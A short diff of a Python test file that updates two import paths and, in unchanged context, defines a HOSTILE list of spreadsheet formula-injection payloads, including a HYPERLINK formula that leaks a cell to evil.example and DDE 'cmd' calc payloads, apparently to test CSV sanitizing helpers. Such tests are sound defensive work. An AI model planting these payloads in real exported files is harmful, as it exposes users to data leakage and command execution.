@@ -15,8 +15,8 @@ from typer.testing import CliRunner
 
 from helpers import example_run, jsonl
 from trajectory.cli.main import app
-from trajectory.ingest import ingest_bytes
-from trajectory.store import Store
+from trajectory.ingest.plain import ingest_bytes
+from trajectory.store.delta import Store
 from trajectory.text import csv_line, spreadsheet_safe, spreadsheet_safe_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
